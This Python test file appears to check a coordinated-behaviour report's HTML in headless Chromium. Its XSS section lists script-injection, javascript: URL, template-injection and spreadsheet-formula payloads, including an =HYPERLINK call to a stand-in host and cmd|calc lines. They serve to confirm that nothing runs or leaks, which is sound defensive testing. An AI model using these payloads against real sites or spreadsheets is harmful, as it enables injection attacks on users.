"""The evidence report in a real browser (headless Chromium driven by Playwright).

A simulated dataset goes through ``inconcert detect``; the test opens report.html, clicks a
group, an edge in a group's list, an edge and an account on the WebGL canvas, searches an
account, and checks that the co-actions shown are exactly those of ``evidence.parquet`` for
that edge. A corpus of XSS payloads goes through the whole pipeline the same way: no script
may run, no dialog may open, no request may leave the page, and the hostile strings must show
as text. Results with 0, 1 and 50,000 groups must render. Screenshots are saved under
``build/report-screenshots/``.

Skipped, with the reason, when ``/usr/bin/chromium`` (Debian's ``chromium``) or the
``playwright`` package is missing; ``make test`` installs Chromium where apt is available.
"""

from __future__ import annotations

import csv
import io
import json
import math
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pyarrow.compute as pc
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from inconcert.cli import app
from inconcert.report import write_report
from inconcert.safety import restore_formula

from .report_fixtures import synthetic_result

CHROMIUM = Path("/usr/bin/chromium")
if not CHROMIUM.exists():
    pytest.skip(
        "headless Chromium is missing (/usr/bin/chromium): install the Debian packages "
        "chromium and chromium-driver (`make test` does so where apt is available)",
        allow_module_level=True,
    )
sync_api = pytest.importorskip(
    "playwright.sync_api",
    reason="the playwright package is missing: pip install -e '.[dev]'",
)

ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
SHOTS = Path(__file__).resolve().parents[1] / "build" / "report-screenshots"
runner = CliRunner()


def _run(*args: str | Path) -> None:
    result = runner.invoke(app, [str(a) for a in args])
    assert result.exit_code == 0, result.output


# -- browser plumbing -------------------------------------------------------------------------


@dataclass
class Guard:
    """What a page did that it must not: leave file://, run a dialog, throw, log an error."""

    requests: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def check(self, page: Any) -> None:
        assert self.requests == [], f"the page tried to reach the network: {self.requests}"
        assert self.dialogs == [], f"a dialog opened: {self.dialogs}"
        assert self.errors == [], f"errors in the page: {self.errors}"
        assert page.evaluate("typeof window.__xss") == "undefined", "an injected script ran"


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        yield b
        b.close()


def _open(browser: Any, path: Path, fragment: str = "") -> tuple[Any, Guard]:
    context = browser.new_context(viewport={"width": 1400, "height": 900})
    page = context.new_page()
    guard = Guard()

    def route(r: Any) -> None:
        if r.request.url.startswith("file://"):
            r.continue_()
        else:
            guard.requests.append(r.request.url)
            r.abort()

    context.route("**/*", route)
    page.on("dialog", lambda d: (guard.dialogs.append(d.message), d.dismiss()))
    page.on("pageerror", lambda e: guard.errors.append(str(e)))
    page.on("console", lambda m: guard.errors.append(m.text) if m.type == "error" else None)
    page.goto(path.resolve().as_uri() + fragment)
    page.wait_for_selector("body[data-ready='1']", timeout=30_000)
    return page, guard


def _shot(page: Any, name: str, selector: str | None = None) -> Path:
    SHOTS.mkdir(parents=True, exist_ok=True)
    path = SHOTS / name
    if selector:
        page.locator(selector).scroll_into_view_if_needed()
        page.evaluate(f"document.querySelector({json.dumps(selector)}).scrollIntoView()")
    page.wait_for_timeout(300)
    page.screenshot(path=str(path))
    return path


# -- what the page shows vs. evidence.parquet -------------------------------------------------


def _fmt_time(t: datetime) -> str:
    t = t.astimezone(UTC)
    out = t.strftime("%Y-%m-%d %H:%M:%S")
    if t.microsecond:
        out += "." + f"{t.microsecond:06d}".rstrip("0")
    return out


def _cut(s: str | None, limit: int = 1000) -> str:
    if s is None:
        return ""
    return s if len(s) <= limit else s[: limit - 1] + "…"


def _expected(result_dir: Path, a: str, b: str) -> list[dict[str, Any]]:
    ev = pq.read_table(result_dir / "evidence.parquet")
    mask = pc.and_(pc.equal(ev.column("account_a"), a), pc.equal(ev.column("account_b"), b))
    rows = ev.filter(mask).to_pylist()
    return [
        {
            "kind": r["kind"],
            "object": _cut(r["object_id"]),
            "post_a": r["post_a"],
            "time_a": _fmt_time(r["time_a"]),
            "text_a": _cut(r.get("text_a")),
            "post_b": r["post_b"],
            "time_b": _fmt_time(r["time_b"]),
            "text_b": _cut(r.get("text_b")),
            "dt": r["dt_s"],
        }
        for r in rows
    ]


SHOWN_JS = """() => Array.from(document.querySelectorAll(
  '#evidence-body table.evidence-table tbody tr')).map(tr => {
  const t = (sel) => { const e = tr.querySelector(sel); return e ? e.textContent : ""; };
  const o = tr.querySelector('td.ev-object .obj');
  return {kind: t('td.ev-kind'), object: o ? o.dataset.id : t('td.ev-object'),
          post_a: t('.ev-post-a'), time_a: t('.ev-time-a'), text_a: t('.ev-text-a'),
          post_b: t('.ev-post-b'), time_b: t('.ev-time-b'), text_b: t('.ev-text-b'),
          dt: t('td.ev-dt')};
})"""


def _shown_edge(page: Any) -> tuple[str, str, list[dict[str, Any]]]:
    page.locator("#evidence-body .lt-bar select").select_option("500")
    a = page.locator("#ev-account-a").text_content()
    b = page.locator("#ev-account-b").text_content()
    return a, b, page.evaluate(SHOWN_JS)


def _assert_evidence_matches(page: Any, result_dir: Path) -> tuple[str, str]:
    a, b, shown = _shown_edge(page)
    expected = _expected(result_dir, a, b)
    assert expected, f"no evidence for the edge shown ({a!r}, {b!r})"
    assert len(shown) == len(expected)
    for got, want in zip(shown, expected, strict=True):
        dt = float(got.pop("dt").replace(",", ""))
        assert math.isclose(dt, want.pop("dt"), abs_tol=0.006), (dt, want)
        assert got == want
    return a, b


def _canvas_click(page: Any, point: dict[str, float]) -> None:
    box = page.locator("#net-canvas").bounding_box()
    page.mouse.click(box["x"] + point["x"], box["y"] + point["y"])
    page.wait_for_timeout(250)


def _reset_camera(page: Any) -> None:
    page.get_by_role("button", name="Show all").click()
    page.wait_for_timeout(700)


# -- the simulated dataset --------------------------------------------------------------------


@pytest.fixture(scope="module")
def sim_result(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("sim")
    _run("simulate", "--out", base / "data", "--seed", "7", "--days", "10")
    _run("detect", base / "data" / "posts.csv.gz", "--out", base / "result", "--quiet")
    return base / "result"


def test_click_group_edge_and_check_evidence(browser: Any, sim_result: Path) -> None:
    page, guard = _open(browser, sim_result / "report.html")
    _shot(page, "overview.png")
    _shot(page, "network-overview.png", "#network")  # the README's docs/report.png
    with open(sim_result / "groups.csv", newline="") as fh:
        groups = list(csv.DictReader(fh))

    # A group from the table.
    page.locator("#groups-table tbody tr").nth(1).click()
    assert page.locator("#group-detail h2").text_content() == f"group {groups[1]['group_id']}"
    assert page.locator("#group-detail .chips .chip").count() == int(groups[1]["size"])
    assert "#group=" in page.evaluate("location.hash")
    _shot(page, "group.png", "#group-detail")

    # An edge from the group's edge list.
    page.locator("#group-detail table.lt tbody tr").first.click()
    a, b = _assert_evidence_matches(page, sim_result)
    assert page.evaluate("location.hash").startswith("#edge=")
    _shot(page, "evidence.png", "#evidence")

    # The timeline of the group.
    assert page.locator("#timeline-body svg.chart").count() >= 3
    assert page.locator("#timeline-body select").input_value() == "1"
    _shot(page, "timeline.png", "#timeline")

    # An edge on the WebGL canvas. Edges are a few pixels wide and where they fall depends on
    # the layout, so try the thickest edges whose midpoints are clear of every node and every
    # other edge, until a click selects the edge clicked.
    page.locator("#network").scroll_into_view_if_needed()
    _reset_camera(page)
    candidates = page.evaluate("""() => {
      const ic = window.inconcert, E = ic.data.edges, r = ic.renderer, g = ic.graph;
      const box = document.querySelector("#net-canvas").getBoundingClientRect();
      const at = (k) => r.graphToViewport(g.getNodeAttributes(String(k)));
      const P = E.a.map((a, j) => [at(a), at(E.b[j])]);
      const seg = (p, [u, v]) => {
        const dx = v.x - u.x, dy = v.y - u.y, l2 = dx * dx + dy * dy;
        const t = l2 ? Math.max(0, Math.min(1, ((p.x - u.x) * dx + (p.y - u.y) * dy) / l2)) : 0;
        return Math.hypot(p.x - u.x - t * dx, p.y - u.y - t * dy);
      };
      const out = [];
      P.forEach(([u, v], j) => {
        const m = {x: (u.x + v.x) / 2, y: (u.y + v.y) / 2};
        if (m.x < 20 || m.y < 20 || m.x > box.width - 20 || m.y > box.height - 20) return;
        let d = Math.min(Math.hypot(m.x - u.x, m.y - u.y), Math.hypot(m.x - v.x, m.y - v.y));
        for (let i = 0; i < P.length; i++) {
          if (i !== j) d = Math.min(d, seg(m, P[i]), Math.hypot(m.x - P[i][0].x, m.y - P[i][0].y),
                                    Math.hypot(m.x - P[i][1].x, m.y - P[i][1].y));
        }
        out.push({d, w: E.weight[j], x: m.x, y: m.y, a: ic.data.accounts.id[E.a[j]],
                  b: ic.data.accounts.id[E.b[j]]});
      });
      // clear of everything by 6 px, the thickest first (thin edges are hard to hit)
      const clear = out.filter((p) => p.d >= 6).sort((p, q) => q.w - p.w || q.d - p.d);
      return (clear.length ? clear : out.sort((p, q) => q.d - p.d)).slice(0, 12);
    }""")
    title = page.locator("#net-selection .panel-title")
    for point in candidates:
        _canvas_click(page, point)
        if (
            title.count()
            and title.text_content() == "Edge"
            and (
                page.locator("#ev-account-a").text_content(),
                page.locator("#ev-account-b").text_content(),
            )
            == (point["a"], point["b"])
        ):
            break
    else:
        raise AssertionError(f"no click on the canvas selected the edge clicked: {candidates}")
    _assert_evidence_matches(page, sim_result)

    # An account on the canvas.
    node = page.evaluate("""() => {
      const ic = window.inconcert, k = ic.data.nodes.account[0];
      const p = ic.renderer.graphToViewport(ic.graph.getNodeAttributes(String(k)));
      return {x: p.x, y: p.y, id: ic.data.accounts.id[k]};
    }""")
    _canvas_click(page, node)
    assert page.locator("#net-selection .panel-title").text_content() == node["id"]

    # Search by account id.
    page.locator("#account-search").fill(b)
    page.locator("#account-search").press("Enter")
    page.wait_for_timeout(700)
    assert page.locator("#net-selection .panel-title").text_content() == b
    _shot(page, "network.png", "#network")

    # The address opens the same edge again.
    page2, guard2 = _open(
        browser, sim_result / "report.html", f"#edge={quote(a, safe='')},{quote(b, safe='')}"
    )
    assert page2.locator("#ev-account-a").text_content() == a
    guard.check(page)
    guard2.check(page2)


def test_sortable_groups_table(browser: Any, sim_result: Path) -> None:
    page, guard = _open(browser, sim_result / "report.html")
    header = page.locator("#groups-table th", has_text="accounts")
    header.click()  # numbers sort descending first
    sizes = page.evaluate("""() => Array.from(document.querySelectorAll(
      '#groups-table tbody tr')).map(tr => Number(tr.children[2].textContent.replace(/,/g, '')))""")
    assert sizes == sorted(sizes, reverse=True)
    header.click()
    sizes = page.evaluate("""() => Array.from(document.querySelectorAll(
      '#groups-table tbody tr')).map(tr => Number(tr.children[2].textContent.replace(/,/g, '')))""")
    assert sizes == sorted(sizes)
    guard.check(page)


# -- the XSS corpus through the whole pipeline ------------------------------------------------

PAYLOADS = [
    "<script>window.__xss=1</script>",
    "<img src=x onerror=window.__xss=1>",
    '"><img src=x onerror="window.__xss=1">',
    "'><svg/onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "</script><script>window.__xss=1</script>",
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "<a href=javascript:window.__xss=1>click</a>",
    "<details open ontoggle=window.__xss=1>",
    "<body onload=window.__xss=1>",
    "<img src=http://evil.example/track.png>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    "<style>*{display:none}</style>",
    "javascript:window.__xss=1",
    "{{constructor.constructor('window.__xss=1')()}}",
    "${window.__xss=1}",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    # Unicode that breaks naive renderers (C0 controls are left out: see
    # test_report.py::test_control_characters_in_ids).
    "\u202eevil\u200b\ufeff \ufffd e\u0301\u0301 \u2028\u2029 \U0001f600",
]
URLS = [
    "javascript:window.__xss=1",
    "JaVaScRiPt:window.__xss=1",
    "data:text/html,<script>window.__xss=1</script>",
    'https://evil.example/"><script>window.__xss=1</script>',
    "http://evil.example/<img src=x onerror=window.__xss=1>",
]
TAGS = ["<img src=x onerror=window.__xss=1>", "=1+1", "<svg onload=window.__xss=1>"]


def _xss_posts(path: Path) -> None:
    fields = [
        "post_id",
        "account_id",
        "timestamp",
        "text",
        "urls",
        "hashtags",
        "image_hashes",
        "repost_of",
    ]
    rows = []
    n = 0
    for day in range(4):
        for k, account in enumerate(PAYLOADS):
            for part in range(2):
                n += 1
                shared = part == 0
                rows.append(
                    {
                        "post_id": f"<b>{n}</b><script>window.__xss=1</script>",
                        "account_id": account,
                        "timestamp": f"2024-03-0{day + 1}T12:{part * 10:02d}:{k:02d}Z",
                        "text": (
                            "The same hostile message <script>window.__xss=1</script> "
                            "<img src=x onerror=window.__xss=1> for everyone"
                            if shared
                            else f"My own words {PAYLOADS[(k + day) % len(PAYLOADS)]} day {day}"
                        ),
                        "urls": json.dumps(URLS if shared else []),
                        "hashtags": json.dumps(TAGS if shared else []),
                        # on the shared posts: a repost's images are the original's
                        "image_hashes": json.dumps(["javascript:window.__xss=1"] if shared else []),
                        "repost_of": "" if shared else "<script>window.__xss=1</script>",
                    }
                )
    with open(path, "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=fields)
        writer.writeheader()
        writer.writerows(rows)


def test_xss_corpus_runs_no_script(browser: Any, tmp_path: Path) -> None:
    src = tmp_path / "hostile.csv"
    _xss_posts(src)
    out = tmp_path / "result"
    # 22 accounts, 176 posts: too few for the null model's default cut; keep every edge
    _run("detect", src, "--out", out, "--quiet", "--max-q", "1")
    with open(out / "accounts.csv", newline="", encoding="utf-8") as fh:
        ids = [r["account_id"] for r in csv.DictReader(fh)]
    assert len(ids) == len(PAYLOADS)
    assert not [i for i in ids if i[:1] in ("=", "+", "-", "@")]  # neutralised in the CSV
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in ids

    page, guard = _open(browser, out / "report.html")
    page.locator("#groups-table tbody tr").first.click()
    chips = page.locator("#group-detail .chips .chip").all_text_contents()
    assert sorted(chips) == sorted(PAYLOADS)
    page.locator("#group-detail table.lt tbody tr").first.click()
    _assert_evidence_matches(page, out)
    for kind in ("url", "hashtag", "text", "image", "repost"):
        assert page.locator("#evidence-body td.ev-kind", has_text=kind).count() > 0, kind
    _shot(page, "xss-evidence.png", "#evidence")
    # the group's CSV: hostile cells neutralised as in the files beside the report
    _, text = _download(page)
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert "<script>window.__xss=1</script>" in text  # data, as it was posted
    # Links: only http(s), each with noopener noreferrer.
    links = page.evaluate("""() => Array.from(document.querySelectorAll('a[href]')).map(a =>
      [a.getAttribute('href'), a.getAttribute('rel'), a.getAttribute('target')])""")
    for href, rel, target in links:
        if href.startswith("#"):
            continue
        assert href.startswith(("http://", "https://")), href
        assert rel == "noopener noreferrer" and target == "_blank", (href, rel)
    assert not page.locator(
        "img, iframe, object, embed, #evidence-body svg, style:not(head style)"
    ).count()
    # Search, hover and select hostile ids; open an address with a hostile fragment.
    page.locator("#account-search").fill(PAYLOADS[0])
    page.locator("#account-search").press("Enter")
    assert page.locator("#net-selection .panel-title").text_content() == PAYLOADS[0]
    page.locator("#network").scroll_into_view_if_needed()
    box = page.locator("#net-canvas").bounding_box()
    for i in range(12):
        page.mouse.move(box["x"] + 40 + i * 60, box["y"] + 40 + i * 45)
    _shot(page, "xss-network.png", "#network")
    guard.check(page)
    page2, guard2 = _open(
        browser, out / "report.html", "#account=" + quote(PAYLOADS[2], safe="") + "&group=<script>"
    )
    assert page2.locator("#net-selection .panel-title").text_content() == PAYLOADS[2]
    guard2.check(page2)


# -- 0, 1 and 50,000 groups -------------------------------------------------------------------


@pytest.mark.parametrize("n_groups", [0, 1, 50_000])
def test_result_sizes_render(browser: Any, tmp_path: Path, n_groups: int) -> None:
    folder = synthetic_result(tmp_path / "r", n_groups)
    if n_groups < 1000:
        _run("report", folder)
    else:
        write_report(folder, figures=False)
    start = time.perf_counter()
    page, guard = _open(browser, folder / "report.html")
    loaded = time.perf_counter() - start
    assert loaded < 20, loaded
    info = page.locator("#groups-table").text_content()
    if n_groups == 0:
        assert "No coordinated groups" in info
        assert "No coordinated groups" in page.locator("#net-canvas").text_content()
    else:
        assert f"{n_groups:,} group" in info
        rows = page.locator("#groups-table tbody tr")
        assert rows.count() == min(n_groups, 25)
    if n_groups == 50_000:
        page.get_by_role("button", name="»").first.click()
        assert "page 2,000 of 2,000" in page.locator("#groups-table .pager").text_content()
        page.locator("#groups-table tbody tr").last.click()
        assert page.locator("#group-detail h2").text_content() == "group 50000"
        assert "not drawn" in page.locator("#group-detail").text_content()
        search = page.locator("#groups-table input[type=search]")
        search.fill("g12345m1")
        page.wait_for_timeout(400)
        assert page.locator("#groups-table tbody tr").count() == 1
        _shot(page, "fifty-thousand-groups.png", "#groups")
    guard.check(page)


def test_evidence_posts_link_back_to_the_platform(browser: Any, tmp_path: Path) -> None:
    """A platform export's posts carry permalinks: the evidence shows each post id as a link
    to the post (issue 11, item 3)."""
    from tests import platform_samples as ps

    src = ps.write_twitter_v2(ps.world(), tmp_path / "in")
    out = tmp_path / "result"
    _run("detect", src, "--out", out, "--quiet", "--max-q", "1")
    page, guard = _open(browser, out / "report.html")
    page.locator("#groups-table tbody tr").first.click()
    page.locator("#group-detail table.lt tbody tr").first.click()
    links = page.locator("#evidence-body .ev-post-a a")
    assert links.count() > 0
    href = links.first.get_attribute("href")
    assert href.startswith("https://twitter.com/p") and href.endswith(
        "/status/" + links.first.text_content()
    )
    assert links.first.get_attribute("rel") == "noopener noreferrer"
    guard.check(page)


# -- issue 11, item 7: evidence that reads like the source --------------------------------------


def _download(page: Any) -> tuple[str, str]:
    """Click the group's download button; the file's name and text."""
    with page.expect_download() as info:
        page.locator("#group-download").click()
    download = info.value
    return download.suggested_filename, Path(download.path()).read_text(encoding="utf-8")


def test_group_evidence_downloads_as_csv(browser: Any, sim_result: Path) -> None:
    """The CSV of a group holds exactly its co-actions of evidence.parquet (all embedded
    here), with the exact values, times in ISO 8601 UTC."""
    page, guard = _open(browser, sim_result / "report.html")
    page.locator("#groups-table tbody tr").first.click()
    gid = int(page.locator("#group-detail h2").text_content().split()[-1])
    name, text = _download(page)
    assert name == f"group-{gid}-evidence.csv"
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    ev = pq.read_table(sim_result / "evidence.parquet")
    want = ev.filter(pc.equal(ev.column("group_id"), gid)).to_pylist()
    assert len(rows) == len(want) > 0
    header = list(rows[0])
    assert header[:5] == ["group_id", "account_a", "account_b", "kind", "object_id"]
    assert {"post_a", "time_a", "text_a", "post_b", "time_b", "dt_s", "object_text"} <= set(header)
    key = ("account_a", "account_b", "kind", "object_id", "post_a", "post_b")
    got = {tuple(r[k] for k in key): r for r in rows}
    for w in want:
        r = got[tuple(str(w[k]) for k in key)]
        assert r["group_id"] == str(gid)
        assert r["time_a"] == w["time_a"].strftime("%Y-%m-%dT%H:%M:%SZ")
        # cells a spreadsheet would run are quoted, as in the CSV files beside the report
        assert restore_formula(r["text_a"]) == (w["text_a"] or "")
        assert restore_formula(r["object_text"]) == (w.get("object_text") or "")
        assert not [v for v in r.values() if v[:1] in ("=", "+", "@") or v.startswith("-@")]
        assert math.isclose(float(r["dt_s"]), w["dt_s"], abs_tol=1e-6)
    # nothing of the download stays in the page (no link, no blob: address)
    assert not page.locator("a[download], a[href^='blob:']").count()
    guard.check(page)


def test_shared_texts_and_reposts_read_like_the_source(browser: Any, tmp_path: Path) -> None:
    """A text kind shows its text, never only its digest; a repost shows who wrote the
    original, its text and a link to it."""
    from tests.test_objects import ORIGINAL, _detect, _posts

    _detect(_posts(tmp_path), tmp_path / "r")
    out = tmp_path / "r"
    ev = pq.read_table(out / "evidence.parquet")
    digests = set(ev.filter(pc.equal(ev.column("kind"), "text")).column("object_id").to_pylist())
    page, guard = _open(browser, out / "report.html")
    page.locator("#groups-table tbody tr").first.click()
    tops = page.locator("#group-detail ol.objects li").all_text_contents()
    assert any("“Vote Quokka on Sunday! 0”" in t for t in tops), tops
    assert any(f"reposted qqsrc: “{ORIGINAL} 0” (post orig0)" in t for t in tops), tops
    assert any("reposted @NewsDesk: “Storm warning 0” (post gone0)" in t for t in tops), tops
    link = page.locator("#group-detail ol.objects a.postref", has_text="post orig0")
    assert link.get_attribute("href") == "https://example.social/qqsrc/orig0"
    assert link.get_attribute("rel") == "noopener noreferrer"
    detail = page.locator("#group-detail").text_content()
    assert not [d for d in digests if d in detail]  # the digest only in data-id and on hover
    page.locator("#group-detail table.lt tbody tr").first.click()
    cells = page.locator("#evidence-body td.ev-object").all_text_contents()
    assert any(c.startswith("reposted qqsrc: “The bridge closes") for c in cells), cells
    assert "“Vote Quokka on Sunday! 0”" in cells
    assert not [c for c in cells if c in digests]
    _shot(page, "evidence-reads-like-the-source.png", "#evidence")
    # the CSV names objects the same way
    _, text = _download(page)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert {r["object_author"] for r in rows if r["kind"] == "repost"} == {"qqsrc", "'@NewsDesk"}
    guard.check(page)


def test_long_texts_are_cut_and_expand(browser: Any, tmp_path: Path) -> None:
    out = synthetic_result(tmp_path / "r", 1, size=2, per_edge=3)
    ev = pq.read_table(out / "evidence.parquet")
    long = "word " * 100 + "END"
    ev = ev.set_column(ev.column_names.index("kind"), "kind", pc.cast(["text"] * 3, "string"))
    ev = ev.append_column("object_text", pc.cast([long] * 3, "string"))
    pq.write_table(ev, out / "evidence.parquet")
    write_report(out, figures=False)
    page, guard = _open(browser, out / "report.html")
    page.locator("#groups-table tbody tr").first.click()
    page.locator("#group-detail table.lt tbody tr").first.click()
    cell = page.locator("#evidence-body td.ev-object").first
    assert "END" not in cell.text_content() and "…" in cell.text_content()
    assert cell.locator(".objtext").get_attribute("title") == long
    cell.locator("button.more").click()
    assert "END" in cell.text_content()
    guard.check(page)


def test_handles_label_accounts_and_outside_originals_name_their_author(
    browser: Any, tmp_path: Path
) -> None:
    """A platform export that names accounts: members, edges and the evidence show handles
    (the id beside the handle where both are shown), an account is found by its handle, and
    a retweet of an original outside the collection says who wrote it and what it said."""
    from tests import platform_samples as ps

    src = ps.write_twitter_v2(ps.outside(ps.world()), tmp_path / "in")
    out = tmp_path / "result"
    _run("detect", src, "--out", out, "--quiet", "--max-q", "1", "--kinds", "repost")
    page, guard = _open(browser, out / "report.html")
    page.locator("#groups-table tbody tr").first.click()
    chips = page.locator("#group-detail .chips .chip").all_text_contents()
    assert sorted(chips) == ps.PLANTED
    tops = page.locator("#group-detail ol.objects li").all_text_contents()
    assert tops and all("reposted newsdesk: “Breaking: the council" in t for t in tops), tops
    page.locator("#group-detail table.lt tbody tr").first.click()
    head = page.locator("#ev-account-a").text_content()
    handle = head.split(" (")[0]
    assert handle in ps.PLANTED and head == f"{handle} ({ps._uid(handle)})"
    cells = page.locator("#evidence-body td.ev-object").all_text_contents()
    assert cells and all(c.startswith("reposted newsdesk: “Breaking: the council") for c in cells)
    _, text = _download(page)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert {(r["object_author"], r["object_author_name"]) for r in rows} == {
        (ps._uid("newsdesk"), "newsdesk")
    }
    page.fill("#account-search", "p3")
    page.keyboard.press("Enter")
    assert page.locator("#net-selection .panel-title").text_content() == f"p3 ({ps._uid('p3')})"
    guard.check(page)
